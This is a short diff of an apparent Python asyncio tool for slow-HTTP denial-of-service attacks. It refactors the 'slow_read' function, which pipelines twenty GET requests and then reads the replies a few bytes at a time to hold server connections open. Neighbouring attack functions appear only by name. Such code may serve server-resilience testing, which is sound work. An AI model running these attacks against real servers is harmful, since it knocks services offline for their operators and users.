@@ -46,15 +46,11 @@ async def slow_body(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) 
     await _drip(reader, writer, b"x")
 
 
-def slow_read(path: str) -> Attack:
+async def slow_read(path: str, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
     """Ask for a page again and again, and read a few bytes a second."""
-
-    async def attack(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        writer.write(f"GET {path} HTTP/1.1\r\n{_HEAD}\r\n".encode() * 20)
-        while await reader.read(32):
-            await asyncio.sleep(BYTE_SECONDS)
-
-    return attack
+    writer.write(f"GET {path} HTTP/1.1\r\n{_HEAD}\r\n".encode() * 20)
+    while await reader.read(32):
+        await asyncio.sleep(BYTE_SECONDS)
 
 
 async def ranges(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
